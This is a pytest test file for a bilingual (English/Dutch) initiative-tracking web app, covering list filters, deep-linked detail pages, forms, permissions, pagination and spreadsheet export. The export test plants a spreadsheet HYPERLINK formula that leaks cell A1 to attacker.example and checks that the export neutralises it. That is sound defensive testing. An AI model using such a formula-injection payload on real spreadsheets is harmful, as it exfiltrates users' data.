"""The Programs pages through app.py: list, detail by deep link, and the create/edit form, in en and nl."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from cxgov.db import session_scope
from cxgov.i18n import t
from cxgov.io.export import to_xlsx
from cxgov.models import AuditEvent, Initiative, InitiativeKpi, KpiReading, Role
from cxgov.rules.permissions import SYSTEM_ACTOR
from cxgov.services.budget import record_expense, set_budget_line
from cxgov.services.initiatives import record_check_in, update_initiative
from cxgov.services.kpis import create_kpi
from cxgov.ui.kit import initiative_table
from cxgov.ui.kit.initiative_table import PAGE_SIZE
from cxgov.ui.kit.safe import plain
from tests.factories import add_initiative, add_person
from tests.pages.harness import link_table, open_page, texts

LANGS = ["en", "nl"]


def _seed(engine) -> dict:
    owner = add_person(engine, Role.MANAGER, name="Sanne de Vries")
    office = add_person(engine, Role.PROGRAMME_OFFICE, name="Pim Office")
    invoices = add_initiative(
        engine,
        owner_id=owner,
        title="Plain-language invoices",
        status="active",
        phase="do",
        progress_pct=40,
        description="Write *every* invoice at B1 level",
    )
    returns = add_initiative(engine, owner_id=office, title="Return in any store", discipline="strategy")
    with session_scope(engine, write=True) as session:
        record_check_in(
            session=session,
            actor=SYSTEM_ACTOR,
            initiative_id=invoices,
            data={"checkin_date": date(2026, 11, 1), "health": "red", "reason": "Supplier late"},
        )
        set_budget_line(
            session=session,
            actor=SYSTEM_ACTOR,
            initiative_id=invoices,
            data={"year": 2026, "quarter": 4, "planned_cents": "1.234,56"},
        )
        record_expense(
            session=session,
            actor=SYSTEM_ACTOR,
            initiative_id=invoices,
            data={"spent_on": date(2026, 11, 3), "amount_cents": "99,99"},
        )
    return {"owner": owner, "office": office, "invoices": invoices, "returns": returns}


@pytest.mark.parametrize("lang", LANGS)
def test_list_on_an_empty_database(monkeypatch, db, lang):
    at = open_page(monkeypatch, db[0], "initiatives", lang=lang)
    assert not at.exception, at.exception
    assert ("No initiatives yet" if lang == "en" else "Nog geen initiatieven") in texts(at)


@pytest.mark.parametrize("lang", LANGS)
def test_list_with_data_and_a_filter_from_the_url(monkeypatch, db, lang):
    url, engine = db
    ids = _seed(engine)
    at = open_page(monkeypatch, url, "initiatives", lang=lang)
    assert not at.exception, at.exception
    table = link_table(at, "initiatives_table")
    header = [
        t(key, lang)
        for key in (
            "portfolio.col.title",
            "portfolio.col.health",
            "health.col.derived",
            "portfolio.col.progress",
            "portfolio.col.status",
            "portfolio.col.phase",
            "portfolio.col.owner",
            "portfolio.col.target",
        )
    ]
    assert list(table.frame.columns[:8]) == header  # what matters first, in the reader's language
    row = table.frame.set_index(header[0]).loc["Plain-language invoices"]
    assert row[header[1]] == t("enum.health.red", lang) and row[header[3]] == "40%"
    assert row[header[6]] == "Sanne de Vries"
    assert row[t("portfolio.col.planned", lang)] == ("€1,234.56" if lang == "en" else "€\xa01.234,56")
    position = table.column(header[0]).index("Plain-language invoices")
    assert table.hrefs[position] == f"initiative?id={ids['invoices']}"
    assert table.tints.loc[position, header[1]] == "#f8d7d7"  # red as text on the red tint
    at = open_page(monkeypatch, url, "initiatives", lang=lang, query={"discipline": "strategy"})
    assert not at.exception, at.exception
    assert link_table(at, "initiatives_table").column(header[0]) == ["Return in any store"]


def test_filter_widget_narrows_the_list(monkeypatch, db):
    url, engine = db
    _seed(engine)
    at = open_page(monkeypatch, url, "initiatives")
    at.text_input(key="programs_list_q").input("invoice").run()
    assert not at.exception, at.exception
    shown = texts(at)
    assert "Plain-language" in shown and "Return in" not in shown


def test_new_button_only_for_people_who_may_propose(monkeypatch, db):
    url, engine = db
    viewer = add_person(engine, Role.VIEWER)
    contributor = add_person(engine, Role.CONTRIBUTOR)
    assert not open_page(monkeypatch, url, "initiatives", acting=viewer).main.button
    at = open_page(monkeypatch, url, "initiatives", acting=contributor)
    assert [b.label for b in at.main.button] == ["New initiative"]


@pytest.mark.parametrize("lang", LANGS)
def test_detail_by_deep_link(monkeypatch, db, lang):
    url, engine = db
    seeded = _seed(engine)
    at = open_page(
        monkeypatch, url, "initiative", lang=lang, query={"id": str(seeded["invoices"])}, acting=seeded["owner"]
    )
    assert not at.exception, at.exception
    shown = texts(at)
    assert "Plain\\-language invoices" in at.title[0].value
    assert "Supplier late" in shown and "Sanne de Vries" in shown
    assert "Write \\*every\\* invoice" in shown  # user text is escaped, not rendered as markdown
    assert ("€1,234.56" if lang == "en" else "€\xa01.234,56") in shown
    # one row of buttons: edit, check-in, expense, quarter budget (the owner may use all four); the PDCA
    # record's move and its edit form come after them
    assert [b.key for b in at.main.button][:4] == [
        "programs_btn_edit",
        "programs_btn_check_in",
        "programs_btn_expense",
        "programs_btn_budget",
    ]
    assert f"pdca_move_{seeded['invoices']}" in [b.key for b in at.main.button]


# Beyond PostgreSQL's integer, beyond SQLite's 64 bits, and digits of another script: none may fail the page.
@pytest.mark.parametrize(
    "query", [{}, {"id": "abc"}, {"id": "999"}, {"id": "2147483648"}, {"id": "99999999999999999999"}, {"id": "١٢"}]
)
@pytest.mark.parametrize("lang", LANGS)
def test_detail_with_a_bad_id_explains_and_links_back(monkeypatch, db, query, lang):
    at = open_page(monkeypatch, db[0], "initiative", lang=lang, query=query)
    assert not at.exception, at.exception
    assert any(("does not exist" if lang == "en" else "bestaat niet") in w.value for w in at.warning)


def test_check_in_and_expense_from_the_detail_page(monkeypatch, db):
    url, engine = db
    seeded = _seed(engine)
    at = open_page(monkeypatch, url, "initiative", query={"id": str(seeded["invoices"])}, acting=seeded["owner"])
    at.button(key="programs_btn_check_in").click().run()
    at.selectbox(key="programs_check_in.health").set_value("amber")
    at.text_input(key="programs_check_in.reason").input("Waiting for legal")
    save_inline(at, "check_in", seeded["invoices"])
    assert not at.exception, at.exception
    assert "Waiting for legal" in texts(at)
    at.button(key="programs_btn_expense").click().run()
    at.text_input(key="programs_expense.amount").input("1.000,50")
    save_inline(at, "expense", seeded["invoices"])
    assert not at.exception, at.exception
    assert "€1,000.50" in texts(at)


def save_inline(at, form: str, initiative_id: int) -> None:
    """Click the submit button of the detail page's inline form `form` (check_in, expense, budget)."""
    next(b for b in at.main.button if b.key.startswith(f"FormSubmitter:programs_{form}_{initiative_id}-")).click().run()


def test_bad_expense_amount_is_explained(monkeypatch, db):
    url, engine = db
    seeded = _seed(engine)
    at = open_page(
        monkeypatch, url, "initiative", query={"id": str(seeded["invoices"])}, acting=seeded["owner"], lang="nl"
    )
    at.button(key="programs_btn_expense").click().run()
    at.text_input(key="programs_expense.amount").input("twaalf")
    save_inline(at, "expense", seeded["invoices"])
    assert "**Bedrag \\(€\\)** is geen bedrag" in at.error[-1].value  # the field named, in Dutch


@pytest.mark.parametrize("lang", LANGS)
def test_form_for_a_reader_explains_why_it_is_not_offered(monkeypatch, db, lang):
    at = open_page(monkeypatch, db[0], "initiative-form", lang=lang)  # nobody picked (SQLite), a viewer (PG)
    assert not at.exception, at.exception
    assert not at.main.text_input
    if db[0].startswith("sqlite"):
        assert ("sidebar" if lang == "en" else "zijbalk") in at.info[0].value
    else:
        assert at.warning[0].value == t("programs.form.may_not_propose", lang)


def _count(engine, title: str) -> int:
    with session_scope(engine) as session:
        return session.execute(select(func.count()).where(Initiative.title == title)).scalar_one()


@pytest.mark.parametrize("lang", LANGS)
def test_create_through_the_form(monkeypatch, db, lang):
    url, engine = db
    person = add_person(engine, Role.CONTRIBUTOR, name="Iris")
    at = open_page(monkeypatch, url, "initiative-form", lang=lang, acting=person)
    assert not at.exception, at.exception
    status = next(s for s in at.selectbox if s.key.endswith(".status"))
    assert status.options == ["Proposed" if lang == "en" else "Voorgesteld"]  # non-office roles only propose
    at.text_input[0].input("Refund status in My Account")
    next(s for s in at.selectbox if s.key.endswith(".discipline")).set_value("design")
    at.main.button[0].click().run()
    assert not at.exception, at.exception
    assert _count(engine, "Refund status in My Account") == 1
    assert "Refund status in My Account" in at.title[0].value.replace("\\", "")  # now on the detail page


@pytest.mark.parametrize("lang", LANGS)
def test_duplicate_title_is_named_and_nothing_saved(monkeypatch, db, lang):
    url, engine = db
    seeded = _seed(engine)
    at = open_page(monkeypatch, url, "initiative-form", lang=lang, acting=seeded["owner"])
    at.text_input[0].input("plain-language INVOICES")
    next(s for s in at.selectbox if s.key.endswith(".discipline")).set_value("design")
    at.main.button[0].click().run()
    assert not at.exception, at.exception
    error = at.error[0].value
    assert ("Title" if lang == "en" else "Titel") in error and (
        "already used" if lang == "en" else "al gebruikt"
    ) in error
    assert _count(engine, "plain-language INVOICES") == 0


@pytest.mark.parametrize("lang", LANGS)
def test_stale_edit_is_refused_and_reload_shows_the_other_change(monkeypatch, db, lang):
    url, engine = db
    seeded = _seed(engine)
    at = open_page(
        monkeypatch, url, "initiative-form", lang=lang, acting=seeded["owner"], query={"id": str(seeded["invoices"])}
    )
    assert not at.exception, at.exception
    with session_scope(engine, write=True) as session:  # someone else saves while the form is open
        update_initiative(
            session=session,
            actor=seeded["office"],
            initiative_id=seeded["invoices"],
            seen_version=1,
            data={
                "title": "Plain-language invoices",
                "discipline": "design",
                "owner_id": seeded["owner"],
                "status": "active",
                "phase": "do",
                "progress_pct": 60,
            },
        )
    at.text_input[0].input("B1 invoices")
    at.main.button[0].click().run()
    assert not at.exception, at.exception
    assert "Pim Office" in at.error[0].value
    assert _count(engine, "B1 invoices") == 0
    reload = next(b for b in at.button if b.label == ("Reload" if lang == "en" else "Opnieuw laden"))
    reload.click().run()
    assert not at.exception, at.exception
    assert not at.error
    assert next(s for s in at.slider if s.key.endswith(".progress_pct")).value == 60


@pytest.mark.parametrize("lang", LANGS)
def test_list_counts_in_singular_and_plural_and_unset_filters_read_all(monkeypatch, db, lang):
    url, engine = db
    _seed(engine)
    at = open_page(monkeypatch, url, "initiatives", lang=lang)
    assert t("programs.list.count.2", lang, n=2) in texts(at)
    # an unset filter shows "All", not Streamlit's "Choose an option"
    assert at.selectbox(key="programs_list_discipline").proto.placeholder == t("common.all", lang)
    at = open_page(monkeypatch, url, "initiatives", lang=lang, query={"discipline": "strategy"})
    assert t("programs.list.count.1", lang) in texts(at)
    assert t("programs.list.count.2", lang, n=1) not in texts(at)


def test_edit_button_opens_the_form_for_this_initiative(monkeypatch, db):
    url, engine = db
    seeded = _seed(engine)
    at = open_page(monkeypatch, url, "initiative", query={"id": str(seeded["invoices"])}, acting=seeded["owner"])
    at.button(key="programs_btn_edit").click().run()
    assert not at.exception, at.exception
    assert at.title[0].value == t("programs.form.edit_title")
    assert at.text_input(key=f"programs_form_{seeded['invoices']}_1.title").value == "Plain-language invoices"


def test_a_save_refused_by_the_policy_is_explained_and_audited(monkeypatch, db):
    """The form was offered, then the person's role changed while the save was on its way (the app reads the
    role at the start of every run, so only this race is left): the save is refused, said so, and recorded."""
    url, engine = db
    seeded = _seed(engine)
    at = open_page(monkeypatch, url, "initiative-form", acting=seeded["owner"], query={"id": str(seeded["invoices"])})

    def demoted_meanwhile(*, session, actor, **kwargs):
        session.execute(text("UPDATE person SET role = 'viewer' WHERE id = :id"), {"id": actor})
        return update_initiative(session=session, actor=actor, **kwargs)

    monkeypatch.setattr("cxgov.services.initiatives.update_initiative", demoted_meanwhile)
    at.text_input[0].input("B1 invoices")
    at.main.button[0].click().run()
    assert not at.exception, at.exception
    assert at.error[0].value == plain("Sanne de Vries (Viewer) may not edit this initiative.")
    assert _count(engine, "B1 invoices") == 0
    with session_scope(engine) as session:
        denial = session.execute(select(AuditEvent).order_by(AuditEvent.seq.desc()).limit(1)).scalar_one()
    assert (denial.action, denial.actor_id, denial.entity_id) == ("denied", seeded["owner"], str(seeded["invoices"]))


def test_one_check_in_form_takes_blocker_spend_and_a_kpi_reading(monkeypatch, db):
    url, engine = db
    seeded = _seed(engine)
    with session_scope(engine, write=True) as session:
        kpi = create_kpi(
            session=session,
            actor=SYSTEM_ACTOR,
            data={"code": "ktv", "name": "KTV", "kind": "csat", "scale_min": 1, "scale_max": 10},
        )
        session.add(InitiativeKpi(initiative_id=seeded["invoices"], kpi_id=kpi, baseline=7.1, target=7.8))
    at = open_page(monkeypatch, url, "initiative", query={"id": str(seeded["invoices"])}, acting=seeded["owner"])
    at.button(key="programs_btn_check_in").click().run()
    at.selectbox(key="programs_check_in.health").set_value("amber")
    at.text_input(key="programs_check_in.reason").input("Waiting for legal")
    at.text_input(key="programs_check_in.blocker").input("Legal review of the new wording")
    at.text_input(key="programs_check_in.spend").input("250,00")
    at.selectbox(key="programs_check_in.kpi").set_value(kpi)
    at.number_input(key="programs_check_in.kpi_value").set_value(7.4)
    at.number_input(key="programs_check_in.kpi_sample_size").set_value(420)
    save_inline(at, "check_in", seeded["invoices"])
    assert not at.exception, at.exception
    assert not at.error, [e.value for e in at.error]
    shown = texts(at)
    assert "Legal review of the new wording" in shown and "€250.00" in shown
    with session_scope(engine) as session:
        reading = session.execute(select(KpiReading).where(KpiReading.kpi_id == kpi)).scalar_one()
    assert reading.value == 7.4


def test_a_closed_initiative_offers_no_check_in(monkeypatch, db):
    url, engine = db
    owner = add_person(engine, Role.MANAGER, name="Sanne de Vries")
    done = add_initiative(engine, owner_id=owner, title="Done and dusted", status="completed", phase="act")
    running = add_initiative(engine, owner_id=owner, title="Still running")
    labels = {}
    for initiative in (done, running):
        at = open_page(monkeypatch, url, "initiative", acting=owner, query={"id": str(initiative)})
        assert not at.exception, at.exception
        labels[initiative] = [b.label for b in at.button]
    assert "Record check-in" in labels[running] and "Record check-in" not in labels[done]


@pytest.mark.parametrize("lang", LANGS)
def test_the_list_exports_the_rows_and_columns_shown(monkeypatch, db, lang):
    url, engine = db
    ids = _seed(engine)
    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"invoice")'
    add_initiative(engine, owner_id=ids["owner"], title=hostile)
    sheets = []
    spied = initiative_table.initiative_sheet
    monkeypatch.setattr(initiative_table, "initiative_sheet", lambda *a: sheets.append(spied(*a)) or sheets[-1])
    at = open_page(monkeypatch, url, "initiatives", lang=lang, query={"q": "invoice"})  # a filtered list
    assert not at.exception, at.exception
    [button] = at.get("download_button")
    assert button.proto.label == t("export.initiatives", lang)
    shown = link_table(at, "initiatives_table").frame
    workbook = load_workbook(io.BytesIO(to_xlsx(sheets[-1])))
    rows = [list(row) for row in workbook.active.iter_rows()]
    assert [c.value for c in rows[0]] == list(shown.columns)  # the columns shown, in the reader's language
    assert len(rows) - 1 == len(shown) == 2  # the rows shown: the filter holds
    by_title = {row[0].value: row for row in rows[1:]}
    assert set(by_title) == {"Plain-language invoices", "'" + hostile}  # text, a formula start neutralised
    assert all(cell.data_type != "f" for row in rows for cell in row)
    invoices = dict(zip(shown.columns, by_title["Plain-language invoices"], strict=True))
    assert invoices[t("portfolio.col.health", lang)].value == t("enum.health.red", lang)
    assert invoices[t("portfolio.col.progress", lang)].value == pytest.approx(0.4)
    planned = invoices[t("portfolio.col.planned", lang)]
    assert planned.value == pytest.approx(1234.56) and "€" in planned.number_format  # euros, not cents
    assert invoices[t("portfolio.col.target", lang)].value is None  # no target date: an empty cell


@pytest.mark.parametrize("lang", LANGS)
def test_a_long_list_is_shown_a_hundred_rows_at_a_time(monkeypatch, db, lang):
    url, engine = db
    owner = add_person(engine, Role.MANAGER, name="Sanne de Vries")
    for n in range(PAGE_SIZE + 5):
        add_initiative(engine, owner_id=owner, title=f"Initiative {n:03}")
    at = open_page(monkeypatch, url, "initiatives", lang=lang)
    assert not at.exception, at.exception
    titles = link_table(at, "initiatives_table").column(t("portfolio.col.title", lang))
    assert titles == [f"Initiative {n:03}" for n in range(PAGE_SIZE)]  # sorted by title, the first hundred
    assert t("tables.showing", lang, first=1, last=PAGE_SIZE, total=PAGE_SIZE + 5) in texts(at)
    at.number_input(key="initiatives_table_page").set_value(2).run()
    titles = link_table(at, "initiatives_table").column(t("portfolio.col.title", lang))
    assert titles == [f"Initiative {n:03}" for n in range(PAGE_SIZE, PAGE_SIZE + 5)]
    at.text_input(key="programs_list_q").input("Initiative 00").run()  # ten left: one page, no picker
    assert not at.exception, at.exception
    assert len(link_table(at, "initiatives_table").frame) == 10 and not at.number_input
